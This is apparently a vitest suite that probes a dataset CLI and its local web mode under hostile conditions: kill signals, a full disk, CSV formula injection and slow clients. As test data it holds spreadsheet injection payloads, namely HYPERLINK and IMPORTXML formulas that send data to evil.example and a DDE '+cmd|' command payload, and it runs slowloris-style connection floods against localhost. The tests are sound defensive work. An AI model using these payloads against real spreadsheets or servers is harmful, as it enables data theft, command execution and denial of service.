// Issue 15's hostile probe, kept as a suite: what an attacker or a careless user does to the CLI,
// the exports and web mode. Signals during an export and during an import, a full disk, formulas in
// exported text, slow clients. The probe's other cases live beside the code they cover: traversal,
// Host and token (webServer.test.ts), hostile and oversized bodies (hostileInput.test.ts), SIGKILL
// mid-epoch and resume (trainResume.test.ts), a cancelled import (importService.test.ts).
import Database from 'better-sqlite3';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDeviationFixture, type DeviationFixture } from '../../bench/deviationFixture.js';
import { TOKEN_HEADER } from '../../shared/contract.js';
import type { CuratedSetSummary, ExportResult } from '../../shared/curatedSets.js';
import { ImportOptions } from '../../shared/domain.js';
import { neutralizeFormula, restoreNeutralizedFormula } from '../../shared/spreadsheetText.js';
import type { TrainingManifestResult } from '../../shared/trainingManifest.js';
import { importIntoDatabase } from '../../main/data/importIntoDatabase.js';
import { parseCsv } from '../../main/data/textTable.js';
import { openZip } from '../../main/data/zipReader.js';
import { sampleDatasetDir } from '../../main/paths.js';
import { createCuratedSetQueries } from '../../main/store/curatedSetQueries.js';
import { createDatasetQueries } from '../../main/store/datasetQueries.js';
import { openDatabase } from '../../main/store/openDatabase.js';
import { startWebServer } from '../../main/web/webServer.js';
import { startAppUnderTest, type AppUnderTest } from '../helpers/appUnderTest.js';
import { makeTempDir } from '../helpers/tempDir.js';
import { createStore } from '../../main/store/store.js';

const bin = path.resolve('bin/disobey.js');
const built = fs.existsSync('out/main/cli.js');
const temp = makeTempDir('disobey-probe-');
afterAll(() => temp.dispose());

function disobey(...args: string[]) {
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', cwd: temp.dir });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function start(...args: string[]): ChildProcess {
  return spawn(process.execPath, [bin, ...args], { cwd: temp.dir, stdio: ['ignore', 'ignore', 'pipe'] });
}

/** Exit code, signal and stderr of a started command. */
function finished(child: ChildProcess): Promise<{ code: number | null; signal: NodeJS.Signals | null; stderr: string }> {
  let stderr = '';
  child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve) => child.once('exit', (code, signal) => resolve({ code, signal, stderr })));
}

/**
 * Polls `ready` on every turn of the event loop, so a child's progress is caught within a
 * millisecond or so: true once ready, false if the child ended first.
 */
async function waitFor(ready: () => boolean, what: string, child: ChildProcess, timeoutMs = 30_000): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (!ready()) {
    if (child.exitCode !== null || child.signalCode !== null) return false;
    if (Date.now() > deadline) throw new Error(`no ${what} within ${timeoutMs} ms`);
    await new Promise((r) => setImmediate(r));
  }
  return true;
}

const fileSize = (file: string) => {
  try {
    return fs.statSync(file).size;
  } catch {
    return -1;
  }
};

describe.skipIf(!built)('signals and a full disk during CLI exports and imports', () => {
  // A set of 12,000 text examples with three runs: a CSV of about 4.6 MiB, written in 1 MiB flushes.
  const db = path.join(temp.dir, 'exports.db');
  const out = path.join(temp.dir, 'out');
  const partialsOf = (dir: string, base: string) => fs.readdirSync(dir).filter((name) => name.startsWith(`${base}.partial-`)).sort();

  beforeAll(() => {
    fs.mkdirSync(out);
    const handle = openDatabase(db);
    const fixture = createDeviationFixture(handle, { examples: 12_000, classes: 10, students: 2, epochs: 1, seed: 8, kind: 'text' });
    const ids = handle.prepare('SELECT id FROM examples WHERE dataset_id = ? ORDER BY id').pluck().all(fixture.datasetId) as number[];
    createCuratedSetQueries(handle).createSet({ datasetId: fixture.datasetId, name: 'all', description: '' }, ids, 'probe');
    handle.close();
  });

  // Windows has no SIGSTOP, and its SIGTERM ends a process without running handlers.
  it.skipIf(process.platform === 'win32')('SIGTERM mid-export cancels it like Ctrl-C: one line, exit 1, no file and no partial file', async () => {
    const target = path.join(out, 'term.csv');
    const child = start('export', '--db', db, '--set', 'all', '--out', target);
    const exit = finished(child);
    expect(await waitFor(() => partialsOf(out, 'term.csv').length > 0, 'partial file', child)).toBe(true);
    // Frozen as soon as its partial file exists, so the signal arrives with the export at its start.
    child.kill('SIGSTOP');
    child.kill('SIGTERM');
    child.kill('SIGCONT');
    expect(await exit).toEqual({ code: 1, signal: null, stderr: 'disobey: export cancelled; nothing was written\n' });
    expect(fs.readdirSync(out)).toEqual([]);
  });

  it("SIGKILL mid-export leaves a partial file that the next export to that path removes, keeping live exports' and other paths' partials", async () => {
    const target = path.join(out, 'kill.csv');
    const child = start('export', '--db', db, '--set', 'all', '--out', target);
    const exit = finished(child);
    expect(await waitFor(() => fileSize(path.join(out, partialsOf(out, 'kill.csv')[0] ?? 'none')) > 0, 'partial file with rows', child)).toBe(true);
    child.kill('SIGKILL');
    expect((await exit).signal).toBe('SIGKILL');
    const left = partialsOf(out, 'kill.csv');
    expect(left).toEqual([expect.stringMatching(new RegExp(`^kill\\.csv\\.partial-${child.pid}-[0-9a-f]{12}$`))]);

    const live = `kill.csv.partial-${process.pid}-0123456789ab`; // this test process: an export still writing
    const oldUnowned = 'kill.csv.partial-00112233aabb'; // an earlier version's, untouched for two hours
    const newUnowned = 'kill.csv.partial-ffeeddccbbaa'; // an earlier version's, written a minute ago
    const otherPath = `other.csv.partial-${child.pid}-0123456789ab`;
    for (const name of [live, oldUnowned, newUnowned, otherPath]) fs.writeFileSync(path.join(out, name), 'half');
    const hoursAgo = new Date(Date.now() - 2 * 3600_000);
    fs.utimesSync(path.join(out, oldUnowned), hoursAgo, hoursAgo);
    const minuteAgo = new Date(Date.now() - 60_000);
    fs.utimesSync(path.join(out, newUnowned), minuteAgo, minuteAgo);

    const again = disobey('export', '--db', db, '--set', 'all', '--out', target, '--json');
    expect(again.stderr).toBe('');
    expect((JSON.parse(again.stdout) as ExportResult).rows).toBe(12_000);
    expect(fs.readdirSync(out).sort()).toEqual(['kill.csv', live, newUnowned, otherPath].sort());
    expect(fs.readFileSync(target, 'utf8').split('\r\n')).toHaveLength(12_000 + 2);
    for (const name of [live, newUnowned, otherPath]) fs.rmSync(path.join(out, name));
    fs.rmSync(target);
  });

  it('SIGKILL mid-import leaves a database that passes integrity_check, holds no part of the dataset, and imports it afresh', async () => {
    // The import writes its 12,000 images in one transaction, for tens of milliseconds; past
    // 256 KiB of WAL it is mid-way. A machine busy enough to let it finish first gets two more tries.
    let file = '';
    for (let attempt = 1; ; attempt++) {
      file = path.join(temp.dir, `import-${attempt}.db`);
      openDatabase(file).close(); // the schema, so the WAL below is the import's alone
      const child = start('import', sampleDatasetDir(), '--db', file);
      const exit = finished(child);
      const midway = await waitFor(() => fileSize(`${file}-wal`) > 256 * 1024, 'import transaction', child);
      if (midway) child.kill('SIGKILL');
      const ended = await exit;
      if (midway) {
        expect(ended.signal).toBe('SIGKILL');
        console.log(`import killed mid-transaction on attempt ${attempt}, its WAL at ${fileSize(`${file}-wal`)} bytes`);
        break;
      }
      expect(ended.code, ended.stderr).toBe(0);
      if (attempt === 3) throw new Error('three imports finished before their transaction could be killed');
    }

    const check = new Database(file);
    expect(check.pragma('integrity_check', { simple: true })).toBe('ok');
    expect(check.prepare('SELECT (SELECT count(*) FROM datasets), (SELECT count(*) FROM examples)').raw().get()).toEqual([0, 0]);
    check.close();
    const again = disobey('import', sampleDatasetDir(), '--db', file, '--json');
    expect(again.stderr).toBe('');
    expect((JSON.parse(again.stdout) as { splits: { split: string; count: number }[] }).splits.map((s) => [s.split, s.count])).toEqual([['train', 10_000], ['test', 2_000]]);
  }, 120_000);

  it('a full disk (a 2 MiB tmpfs): the export and the import fail naming their file, and leave nothing half-written', async (ctx) => {
    const full = path.join(temp.dir, 'full');
    fs.mkdirSync(full);
    const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=2m', 'tmpfs', full], { encoding: 'utf8' });
    if (mounted.status !== 0) {
      console.warn(`NOTICE: disk-full probe skipped: cannot mount a 2 MiB tmpfs here (${(mounted.stderr || mounted.error?.message || `exit ${mounted.status}`).trim()}); it needs Linux and root`);
      ctx.skip();
    }
    try {
      const target = path.join(full, 'all.csv');
      const exported = disobey('export', '--db', db, '--set', 'all', '--out', target);
      expect([exported.code, exported.stderr]).toEqual([1, `disobey: cannot write ${target}: the disk is full; nothing was written\n`]);
      expect(fs.readdirSync(full)).toEqual([]);

      const file = path.join(full, 'fm.db');
      openDatabase(file).close();
      const imported = disobey('import', sampleDatasetDir(), '--db', file);
      expect(imported.code).toBe(1);
      expect(imported.stderr.trim().split('\n')).toHaveLength(1);
      expect(imported.stderr).toMatch(/^disobey: cannot write .*: the disk is full/);
      expect(imported.stderr).toContain(file);
      const check = new Database(file);
      expect(check.pragma('integrity_check', { simple: true })).toBe('ok');
      expect(check.prepare('SELECT (SELECT count(*) FROM datasets), (SELECT count(*) FROM examples)').raw().get()).toEqual([0, 0]);
      check.close();
    } finally {
      spawnSync('umount', [full]);
    }
  });
});

describe('CSV exports against formula injection', () => {
  // A text dataset whose class names, texts, notes and source files a hostile user chose.
  const CLASS_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '-1', '@SUM(1+1)', "'+quoted", 'plain'];
  const TEXTS = ['=1+2', '+cmd|"/c calc"!A1', '-0.5', '- a bullet point', '@mention', '\t=tab', '\r=carriage return', "'=already quoted", 'plain, with "quotes"', '1e5'];
  const NOTES = ['=cmd', '+1', '-2.5e3', '@x', "''-twice"];
  const TEXT_COLUMNS = ['split', 'label_name', 'note', 'text'];
  let app: AppUnderTest;
  let fixture: DeviationFixture;
  let set: CuratedSetSummary;
  let stored: { id: number; split: string; label: number; text: string; note: string; source_ref: string }[];
  const call = (name: string, args: object) => app.services.dispatch(name as never, args as never, 'http');

  beforeAll(async () => {
    app = await startAppUnderTest();
    fixture = createDeviationFixture(app.db, { examples: 50, testShare: 0.2, classes: CLASS_NAMES.length, students: 1, epochs: 2, seed: 15, kind: 'text', name: 'hostile' });
    app.db.prepare('UPDATE datasets SET class_names = ? WHERE id = ?').run(JSON.stringify(CLASS_NAMES), fixture.datasetId);
    const ids = app.db.prepare('SELECT id FROM examples WHERE dataset_id = ? ORDER BY id').pluck().all(fixture.datasetId) as number[];
    const update = app.db.prepare('UPDATE examples SET text = ?, source_ref = ? WHERE id = ?');
    ids.forEach((id, i) => update.run(TEXTS[i % TEXTS.length], i % 3 === 0 ? `=IMPORTXML("http://evil.example/${i}")` : `train.csv:${i}`, id));
    set = (await call('createCuratedSet', { datasetId: fixture.datasetId, name: 'hostile set', exampleIds: ids })) as CuratedSetSummary;
    const note = app.db.prepare('UPDATE curated_set_members SET note = ? WHERE set_id = ? AND example_id = ?');
    ids.forEach((id, i) => note.run(NOTES[i % NOTES.length], set.id, id));
    stored = app.db
      .prepare('SELECT e.id, e.split, e.label, e.text, m.note, e.source_ref FROM examples e JOIN curated_set_members m ON m.example_id = e.id AND m.set_id = ? ORDER BY e.id')
      .all(set.id) as typeof stored;
  });
  afterAll(async () => app.dispose());

  /** The set exported once per format. */
  const exportAs = async (format: 'csv' | 'jsonl' | 'zip') => {
    const file = path.join(app.dir, `hostile.${format}`);
    if (!fs.existsSync(file)) await call('exportCuratedSet', { setId: set.id, format, path: file });
    return file;
  };
  const expectedCells = (row: (typeof stored)[number]): Record<string, string> => ({ split: row.split, label_name: CLASS_NAMES[row.label]!, note: row.note, text: row.text });
  const startsLikeFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

  it('writes text cells that would start a formula with an apostrophe and quoted; numbers stay numbers', async () => {
    const content = fs.readFileSync(await exportAs('csv'), 'utf8');
    const [header, ...rows] = parseCsv(content, 'hostile.csv').map((r) => r.fields);
    expect(rows).toHaveLength(stored.length);
    rows.forEach((cells, i) => {
      const expected = expectedCells(stored[i]!);
      for (const column of TEXT_COLUMNS) expect(cells[header!.indexOf(column)], `row ${i + 1} ${column}`).toBe(neutralizeFormula(expected[column]!));
      expect(cells.filter(startsLikeFormula), `row ${i + 1}`).toEqual([]);
      // every probability a plain number, negative-looking text such as "-0.5" and "-1" left as it is
      for (const cell of cells.slice(header!.indexOf('text') + 1)) expect(cell).toMatch(/^\d(\.\d+)?(e-\d+)?$/);
    });
    expect(content).toContain(`,"'=1+2",`);
    expect(content).toContain(`,"'+cmd|""/c calc""!A1",`);
    expect(content).toContain(`,"'\t=tab",`);
    expect(content).toContain(`,"''=already quoted",`);
    expect(content).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
    expect(content).toContain(',-0.5,');
    expect(content).toContain(',-1,');
    expect(content).toContain(',-2.5e3,');
  });

  it('is undone exactly by restoreNeutralizedFormula, the same in the ZIP manifest, and exact in JSONL', async () => {
    const csv = fs.readFileSync(await exportAs('csv'), 'utf8');
    const [header, ...rows] = parseCsv(csv, 'hostile.csv').map((r) => r.fields);
    rows.forEach((cells, i) => {
      const expected = expectedCells(stored[i]!);
      for (const column of TEXT_COLUMNS) expect(restoreNeutralizedFormula(cells[header!.indexOf(column)]!)).toBe(expected[column]);
    });

    const archive = await openZip(await exportAs('zip'));
    const manifest = (await archive.read(archive.entries.get('manifest.csv')!)).toString('utf8');
    await archive.close();
    expect(manifest).toBe(csv);

    const lines = fs.readFileSync(await exportAs('jsonl'), 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.map((l) => [l.id, l.split, l.label_name, l.note, l.text])).toEqual(stored.map((r) => [r.id, r.split, CLASS_NAMES[r.label], r.note, r.text]));
  });

  it('imports back as a dataset: every example, its split, its class and its text exactly (the apostrophes come off)', async () => {
    const id = await importIntoDatabase(createStore(app.db), ImportOptions.parse({ path: await exportAs('csv'), name: 'hostile again' }));
    const dataset = createDatasetQueries(app.db).getDataset(id);
    expect(dataset.splits.map((s) => [s.split, s.count])).toEqual([['train', 40], ['test', 10]]);
    expect(dataset.classNames).toEqual(CLASS_NAMES); // in the exported order, apostrophes removed
    const back = app.db.prepare('SELECT split, text FROM examples WHERE dataset_id = ? ORDER BY id').all(id) as { split: string; text: string }[];
    expect(back.map((r) => r.split)).toEqual(stored.map((r) => r.split));
    const untouched = stored.flatMap((r, i) => (neutralizeFormula(r.text) === r.text ? [[i, r.text]] : []));
    expect(untouched).toHaveLength(15); // "-0.5", "1e5" and 'plain, with "quotes"', five times each
    // every text, neutralised ones included, comes back as it was stored
    expect(back.map((r) => r.text)).toEqual(stored.map((r) => r.text));
  });

  it("neutralises a training manifest's split, source_ref and reason in CSV, and keeps them exact in JSONL", async () => {
    const rules = [{ filter: { labels: [0] }, weight: 2, reason: '=HYPERLINK("http://evil.example")' }];
    const args = { experimentId: fixture.experimentId, rules, defaultWeight: 0.5 };
    const csv = (await call('exportTrainingManifest', { ...args, format: 'csv' })) as TrainingManifestResult;
    const [header, ...rows] = parseCsv(csv.content!, 'manifest.csv').map((r) => r.fields);
    expect(header).toEqual(['id', 'split', 'index', 'source_ref', 'weight', 'reason']);
    expect(rows.map((r) => [Number(r[0]), r[3], r[4], r[5]])).toEqual(
      stored.map((s) => [s.id, neutralizeFormula(s.source_ref), s.label === 0 ? '2' : '0.5', s.label === 0 ? `'${rules[0]!.reason}` : 'default']),
    );
    expect(csv.content).toContain(`,"'=IMPORTXML(""http://evil.example/0"")",`);
    const jsonl = (await call('exportTrainingManifest', { ...args, format: 'jsonl' })) as TrainingManifestResult;
    const objects = jsonl.content!.trimEnd().split('\n').map((line) => JSON.parse(line) as { source_ref: string; reason: string });
    expect(objects.map((o) => [o.source_ref, o.reason])).toEqual(stored.map((s) => [s.source_ref, s.label === 0 ? rules[0]!.reason : 'default']));
  });
});

describe('web mode against slow clients', () => {
  let app: AppUnderTest;
  beforeAll(async () => {
    app = await startAppUnderTest();
  });
  afterAll(async () => app.dispose());

  it('answers every call promptly while 40 clients trickle their request headers a byte at a time', async () => {
    const port = app.server.port;
    const head = `POST /api/call/listDatasets HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n${TOKEN_HEADER}: ${app.server.token}\r\nX-Slow: ${'a'.repeat(200)}`;
    const slow = await Promise.all(
      Array.from({ length: 40 }, () => new Promise<net.Socket>((resolve, reject) => {
        const socket = net.connect({ host: '127.0.0.1', port }, () => resolve(socket));
        socket.once('error', reject);
      })),
    );
    let sent = 0;
    const trickle = setInterval(() => {
      if (sent === head.length) return; // never the blank line that ends the headers
      for (const socket of slow) if (!socket.destroyed) socket.write(head[sent]!);
      sent++;
    }, 20);
    try {
      const latencies: number[] = [];
      for (let i = 0; i < 20; i++) {
        const t0 = performance.now();
        const res = await fetch(`http://127.0.0.1:${port}/api/call/listDatasets`, { method: 'POST', headers: { 'content-type': 'application/json', [TOKEN_HEADER]: app.server.token }, body: '{}' });
        expect(res.status).toBe(200);
        expect(await res.json()).toEqual({ ok: true, result: [] });
        latencies.push(performance.now() - t0);
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(Math.max(...latencies)).toBeLessThan(1_000);
      // The slow clients were still connected, mid-header, the whole time.
      expect(sent).toBeGreaterThan(40);
      expect(slow.filter((socket) => socket.destroyed)).toHaveLength(0);
    } finally {
      clearInterval(trickle);
      for (const socket of slow) socket.destroy();
    }
  });

  it('answers the token holder while a client without the token opens more half-sent requests than there are connection slots', async () => {
    const port = app.server.port;
    const slow = Array.from({ length: 300 }, () => {
      const socket = net.connect({ host: '127.0.0.1', port });
      socket.on('error', () => {}); // the server drops the oldest: a reset is the point
      socket.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Slow: a`);
      return socket;
    });
    try {
      // every one connected (and perhaps dropped) before the token holder calls
      await Promise.all(slow.map((socket) => new Promise((resolve) => (socket.readyState === 'open' || socket.destroyed ? resolve(null) : (socket.once('connect', resolve), socket.once('close', resolve))))));
      const res = await fetch(`http://127.0.0.1:${port}/api/call/appInfo`, { method: 'POST', headers: { 'content-type': 'application/json', [TOKEN_HEADER]: app.server.token }, body: '{}', signal: AbortSignal.timeout(5_000) });
      expect(res.status).toBe(200);
      expect((await res.json()) as { ok: boolean }).toMatchObject({ ok: true });
      // at most 64 connections wait for their heads; the server dropped the older ones
      const deadline = Date.now() + 5_000;
      while (slow.filter((socket) => !socket.closed).length > 64 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      expect(slow.filter((socket) => !socket.closed).length).toBeLessThanOrEqual(64);
    } finally {
      for (const socket of slow) socket.destroy();
    }
  });

  it('drops a client that has not sent its whole request head within the headers timeout', async () => {
    const server = await startWebServer({ services: app.services, headersTimeoutMs: 500 });
    try {
      const socket = net.connect({ host: '127.0.0.1', port: server.port });
      socket.on('error', () => {}); // the server's 408 and close reach a socket still writing: EPIPE is the point
      await new Promise((resolve) => socket.once('connect', resolve));
      const closed = new Promise<number>((resolve) => socket.once('close', () => resolve(performance.now())));
      const t0 = performance.now();
      const trickle = setInterval(() => !socket.destroyed && socket.write('a'), 50);
      socket.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\nX-Slow: `);
      const elapsed = (await Promise.race([closed, new Promise<number>((resolve) => setTimeout(() => resolve(Infinity), 10_000))])) - t0;
      clearInterval(trickle);
      socket.destroy();
      // Node's default would keep it 60 s or more; ours drops it after 0.5 s, checked every 0.5 s.
      expect(elapsed).toBeGreaterThanOrEqual(400);
      expect(elapsed).toBeLessThan(5_000);
    } finally {
      await server.close();
    }
  });
});
